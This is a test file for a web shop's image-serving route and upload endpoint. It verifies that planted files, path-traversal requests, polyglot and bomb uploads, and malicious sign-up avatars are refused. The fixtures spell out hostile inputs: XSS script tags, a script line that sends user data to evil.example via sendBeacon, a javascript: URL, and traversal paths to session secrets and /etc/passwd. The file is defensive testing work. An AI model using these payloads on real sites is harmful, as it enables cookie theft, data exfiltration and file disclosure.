import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signInAs } from '../testing/factories';
import { snapshotDb } from '../testing/db-snapshot';
import { plantInImageStore, storedImageNames } from '../testing/stored-images';
import { testDialect } from '../testing/test-database';
import { HttpClient, startTestServer, type HttpReply, type TestServer } from '../testing/test-server';
import { gifBomb, pngBomb, twoTone } from '../images/image.fixtures';
import { NOT_ADMIN, NOT_SIGNED_IN, expectApiRefusal, expectNoLeak, listFolder, rawRequest, type Envelope } from './attack-kit';

/**
 * The image host: the store (the images folder on SQLite, the stored_images table on
 * PostgreSQL) serves only what the image pipeline wrote (content-hash WebP names), whatever
 * else lands in it, and uploads take only real raster images from admins.
 */
let server: TestServer;
let admin: HttpClient;
let general: HttpClient;
let imagesDir: string;
/** The hash of a real image uploaded through the API. */
let storedHash: string;

const SECRET = 'TOP-SECRET-SESSION-KEY-0123456789-abcdefghijklmnop';
const SCRIPT = '<script>alert(document.cookie)</script>';

beforeAll(async () => {
  server = await startTestServer();
  imagesDir = server.deps.env.imagesDir;
  admin = (await signInAs(server, 'ADMIN')).client;
  general = (await signInAs(server, 'GENERAL')).client;
  // Where a generated secret would live, so that a traversal that worked would have something to read.
  fs.writeFileSync(path.join(server.dataDir, 'session-secret'), `${SECRET}\n`, { mode: 0o600 });
  const reply = await upload(admin, await twoTone(1600, 900).png().toBuffer(), 'photo.png', 'image/png');
  expect(reply.status).toBe(201);
  storedHash = /^\/images\/([0-9a-f]{32})\.webp$/.exec(reply.body.data?.url ?? '')?.[1] ?? '';
  expect(storedHash).toHaveLength(32);
});

afterAll(async () => {
  await server.close();
});

/** Everything the image store holds: "nothing written" means this did not change. */
const stored = (): Promise<string[]> => storedImageNames(server.deps.db, imagesDir);

function upload(client: HttpClient, bytes: Buffer, name: string, type: string): Promise<HttpReply<Envelope<{ url: string } | null>>> {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(bytes)], { type }), name);
  return client.request('/api/upload-image', { method: 'POST', body: form });
}

const hashLike = (seed: string) => seed.repeat(32).slice(0, 32);
const isWebp = (bytes: Buffer) => bytes.subarray(0, 4).toString('latin1') === 'RIFF' && bytes.subarray(8, 12).toString('latin1') === 'WEBP';

/** A 404 from the image route: plain text, nothing of the file, nothing that could run. */
function expectImageNotFound(reply: { status: number; headers: Record<string, unknown>; body: Buffer }, planted?: string): void {
  expect(reply.status).toBe(404);
  expect(String(reply.headers['content-type'])).toMatch(/^text\/plain/);
  expect(reply.body.toString()).toBe('Image not found');
  if (planted) expect(reply.body.toString()).not.toContain(planted);
}

describe('the image store serves only the shop’s own renditions', () => {
  const PLANTED: [string, string][] = [
    ['evil.html', `<!doctype html><html><body>${SCRIPT}</body></html>`],
    ['x.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`],
    ['a.js', 'fetch("/api/all-user").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))'],
    ['index.html', `<h1>listing</h1>${SCRIPT}`],
    [`${hashLike('ab')}.html`, `<html>${SCRIPT}</html>`],
    [`${hashLike('cd')}.svg`, `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
    [`${hashLike('ef')}.webp.html`, `<html>${SCRIPT}</html>`],
    [`.${hashLike('12')}.webp.a1b2c3d4e5f6.tmp`, `<html>${SCRIPT}</html>`],
    [`.${hashLike('34')}.webp`, `<html>${SCRIPT}</html>`],
    ['.env', `SESSION_SECRET=${SECRET}`],
    [`${hashLike('56')}.webp.tmp`, `<html>${SCRIPT}</html>`],
    [`${hashLike('AB')}.webp`, `<html>${SCRIPT}</html>`],
    [`${hashLike('78')}-w999.webp`, `<html>${SCRIPT}</html>`],
  ];

  it.each(PLANTED)('%s, written straight into the store (a file in the folder, a row in the table) → 404 (GET and HEAD)', async (name, content) => {
    await plantInImageStore(server.deps.db, imagesDir, name, content);
    expectImageNotFound(await rawRequest(server.url, `/images/${encodeURIComponent(name)}`), content);
    expect((await rawRequest(server.url, `/images/${encodeURIComponent(name)}`, { method: 'HEAD' })).status).toBe(404);
  });

  it('a valid-looking image name inside a sub-folder → 404', async () => {
    const name = `${hashLike('9a')}.webp`;
    // Only the folder has sub-folders; the requests must fail on every store.
    if (testDialect() === 'sqlite') {
      fs.mkdirSync(path.join(imagesDir, 'sub'), { recursive: true });
      fs.copyFileSync(path.join(imagesDir, `${storedHash}.webp`), path.join(imagesDir, 'sub', name));
    }
    expectImageNotFound(await rawRequest(server.url, `/images/sub/${name}`));
    expectImageNotFound(await rawRequest(server.url, `/images/sub%2F${name}`));
  });

  it('a sub-folder itself named like an image → 404 (not a redirect into it)', async () => {
    const name = `${hashLike('bc')}.webp`;
    if (testDialect() === 'sqlite') {
      fs.mkdirSync(path.join(imagesDir, name), { recursive: true });
      fs.writeFileSync(path.join(imagesDir, name, 'index.html'), `<html>${SCRIPT}</html>`);
    }
    for (const p of [`/images/${name}`, `/images/${name}/`, `/images/${name}/index.html`]) {
      const reply = await rawRequest(server.url, p);
      expect({ path: p, status: reply.status, location: reply.headers.location }).toEqual({ path: p, status: 404, location: undefined });
      expect(reply.body.toString()).not.toContain(SCRIPT);
    }
  });

  it.each([
    '/images/..%2Fshop.sqlite',
    '/images/%2e%2e/shop.sqlite',
    '/images/%2e%2e/session-secret',
    '/images/%2e%2e%2fsession-secret',
    '/images/..%5Csession-secret',
    '/images/../session-secret',
    '/images/..%252fsession-secret',
    '/images/%252e%252e%252fsession-secret',
    '/images/....//session-secret',
    '/images/%2e%2e/%2e%2e/etc/passwd',
    `/images/${'a'.repeat(32)}.webp/../../session-secret`,
    `/images/${'a'.repeat(32)}.webp%00.html`,
    '/images/%00',
    '/images/',
    '/images',
  ])('%s → 404, nothing from outside the folder', async (p) => {
    const reply = await rawRequest(server.url, p);
    expect(reply.status).toBe(404);
    const text = reply.body.toString('latin1');
    expect(text).not.toContain('SQLite format 3');
    expect(text).not.toContain(SECRET);
    expect(text).not.toContain('root:');
    expect(reply.headers['content-type']).not.toMatch(/html/);
  });

  it('other methods on a real image → 404, and the image stays', async () => {
    for (const method of ['POST', 'PUT', 'DELETE', 'PATCH']) {
      const reply = await rawRequest(server.url, `/images/${storedHash}.webp`, { method, headers: { 'content-type': 'image/webp' }, body: SCRIPT });
      expect({ method, status: reply.status }).toEqual({ method, status: 404 });
    }
    expect(await server.deps.images.has(`${storedHash}.webp`)).toBe(true);
  });

  it.each(['', '-w320', '-w640', '-w1280'])('the stored image%s is served as WebP that can never run: image/webp, nosniff, a sandboxing CSP', async (suffix) => {
    for (const method of ['GET', 'HEAD']) {
      const reply = await rawRequest(server.url, `/images/${storedHash}${suffix}.webp`, { method });
      expect(reply.status).toBe(200);
      expect(reply.headers['content-type']).toBe('image/webp');
      expect(reply.headers['x-content-type-options']).toBe('nosniff');
      expect(reply.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
      if (method === 'GET') expect(isWebp(reply.body)).toBe(true);
    }
  });
});

describe('upload attacks', () => {
  const html = Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`);
  const svg = Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${SCRIPT}<rect width="10" height="10"/></svg>`);
  const magic = (header: string | number[]) => Buffer.concat([Buffer.from(header as string, 'latin1'), html]);

  const ATTACKS: { name: string; bytes: () => Promise<Buffer> | Buffer; file: string; type: string; status: number; message: RegExp }[] = [
    { name: 'an HTML page renamed .png', bytes: () => html, file: 'photo.png', type: 'image/png', status: 400, message: /^Unsupported image/ },
    { name: 'an SVG with a script, renamed .png', bytes: () => svg, file: 'logo.png', type: 'image/png', status: 400, message: /^Unsupported image/ },
    { name: 'an SVG sent as an SVG', bytes: () => svg, file: 'logo.svg', type: 'image/svg+xml', status: 400, message: /^Unsupported image/ },
    { name: 'a polyglot: PNG magic bytes, then HTML', bytes: () => magic('\x89PNG\r\n\x1a\n'), file: 'poly.png', type: 'image/png', status: 400, message: /not a readable image/ },
    { name: 'a polyglot: GIF magic bytes, then HTML', bytes: () => magic('GIF89a'), file: 'poly.gif', type: 'image/gif', status: 400, message: /not a readable image/ },
    { name: 'a polyglot: JPEG magic bytes, then HTML', bytes: () => magic('\xff\xd8\xff\xe0'), file: 'poly.jpg', type: 'image/jpeg', status: 400, message: /not a readable image/ },
    { name: 'a PNG claiming 50,000 × 50,000 pixels', bytes: () => pngBomb(), file: 'bomb.png', type: 'image/png', status: 400, message: /too many pixels/ },
    { name: 'a GIF claiming 50,000 × 50,000 pixels', bytes: () => gifBomb(), file: 'bomb.gif', type: 'image/gif', status: 400, message: /too many pixels/ },
    {
      name: 'a real PNG cut in half',
      bytes: async () => {
        const png = await twoTone(300, 200).png().toBuffer();
        return png.subarray(0, Math.floor(png.length / 2));
      },
      file: 'half.png',
      type: 'image/png',
      status: 400,
      message: /not a readable image/,
    },
    { name: 'an empty file', bytes: () => Buffer.alloc(0), file: 'empty.png', type: 'image/png', status: 400, message: /image/i },
    {
      name: 'a file over 5 MB',
      bytes: async () => Buffer.concat([await twoTone(16, 16).png().toBuffer(), Buffer.alloc(5 * 1024 * 1024 + 1024, 7)]),
      file: 'huge.png',
      type: 'image/png',
      status: 413,
      message: /^Image is too large: the limit is 5 MB$/,
    },
  ];

  it.each(ATTACKS)('$name → $status with a clear message; nothing written', async ({ bytes, file, type, status, message }) => {
    const before = await snapshotDb(server.deps.db);
    const files = await stored();
    const reply = await upload(admin, await bytes(), file, type);
    expectApiRefusal(reply, status, message, null);
    expect(await stored()).toEqual(files);
    expect(await snapshotDb(server.deps.db)).toEqual(before);
  });

  it('a real PNG with HTML appended is re-encoded: what is stored and served holds no script', async () => {
    const png = await twoTone(200, 120).png().toBuffer();
    const reply = await upload(admin, Buffer.concat([png, Buffer.from(`<html>${SCRIPT}</html>`)]), 'tail.png', 'image/png');
    expect(reply.status).toBe(201);
    const name = path.basename(reply.body.data?.url ?? '');
    for (const file of [name, name.replace('.webp', '-w320.webp')]) {
      const onDisk = (await server.deps.images.get(file)) ?? Buffer.alloc(0);
      expect(isWebp(onDisk)).toBe(true);
      expect(onDisk.toString('latin1')).not.toContain('<script');
      const served = await rawRequest(server.url, `/images/${file}`);
      expect(served.headers['content-type']).toBe('image/webp');
      expect(served.body.toString('latin1')).not.toContain('<script');
    }
  });

  it('a file name with path traversal is ignored: the file is stored under its content hash, inside the store', async () => {
    const outside = listFolder(server.dataDir).filter((entry) => !entry.startsWith('images/'));
    const png = await twoTone(90, 60).png().toBuffer();
    for (const name of ['../../../../tmp/evil.png', '..\\..\\evil.png', '/etc/evil.png', '.evil.png']) {
      const reply = await upload(admin, png, name, 'image/png');
      expect(reply.status).toBe(201);
      expect(reply.body.data?.url).toMatch(/^\/images\/[0-9a-f]{32}\.webp$/);
    }
    expect(listFolder(server.dataDir).filter((entry) => !entry.startsWith('images/'))).toEqual(outside);
    expect((await stored()).filter((entry) => /evil\.png/.test(entry))).toEqual([]);
    expect(fs.existsSync('/tmp/evil.png')).toBe(false);
  });

  it('a form with many parts, or a broken multipart body → 400, nothing written', async () => {
    const files = await stored();
    const form = new FormData();
    for (let i = 0; i < 40; i++) form.append(`field${i}`, 'x');
    form.append('file', new Blob([new Uint8Array(await twoTone(20, 20).png().toBuffer())], { type: 'image/png' }), 'a.png');
    const many = await admin.request<Envelope>('/api/upload-image', { method: 'POST', body: form });
    expectApiRefusal(many, 400, /not a valid/, null);
    const broken = await admin.request<Envelope>('/api/upload-image', {
      method: 'POST',
      headers: { 'content-type': 'multipart/form-data; boundary=XYZ' },
      body: `--XYZ\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG${SCRIPT}`,
    });
    expectApiRefusal(broken, 400, /not a valid multipart form|not a valid form|readable image/, null);
    expect(await stored()).toEqual(files);
  });

  it.each([
    { who: 'a visitor', client: () => new HttpClient(server.url), status: 401, message: NOT_SIGNED_IN },
    { who: 'a GENERAL user', client: () => general, status: 403, message: NOT_ADMIN },
  ])('$who uploading a real image → $status, nothing written', async ({ client, status, message }) => {
    const before = await snapshotDb(server.deps.db);
    const files = await stored();
    const reply = await upload(client(), await twoTone(120, 80).png().toBuffer(), 'ok.png', 'image/png');
    expect(reply.body).toEqual({ success: false, error: true, message, data: null });
    expect(reply.status).toBe(status);
    expect(await stored()).toEqual(files);
    expect(await snapshotDb(server.deps.db)).toEqual(before);
  });
});

describe('the other way in: a profile picture at sign-up', () => {
  const dataUrl = (type: string, bytes: Buffer) => `data:${type};base64,${bytes.toString('base64')}`;

  it.each([
    ['an SVG with a script', () => dataUrl('image/svg+xml', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)), /^Unsupported image/],
    ['HTML claiming to be a PNG', () => dataUrl('image/png', Buffer.from(`<html>${SCRIPT}</html>`)), /^Unsupported image/],
    ['a PNG polyglot', () => dataUrl('image/png', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from(SCRIPT)])), /not a readable image/],
    ['a decompression bomb', () => dataUrl('image/png', pngBomb()), /too many pixels/],
    ['a javascript: URL', () => `javascript:alert(document.cookie)`, /image data URL/],
    ['a remote URL', () => 'https://evil.example/track.png', /image data URL/],
  ])('%s → 400, no user and no file', async (_name, profilePic, message) => {
    const before = await snapshotDb(server.deps.db);
    const files = await stored();
    const reply = await new HttpClient(server.url).post('/api/signup', {
      name: 'Avatar Attacker',
      email: `avatar-${Date.now()}@example.com`,
      password: 'correct horse battery',
      confirmPassword: 'correct horse battery',
      profilePic: profilePic(),
    });
    expectApiRefusal(reply, 400, message, null);
    expectNoLeak(reply);
    expect(await stored()).toEqual(files);
    expect(await snapshotDb(server.deps.db)).toEqual(before);
  });
});
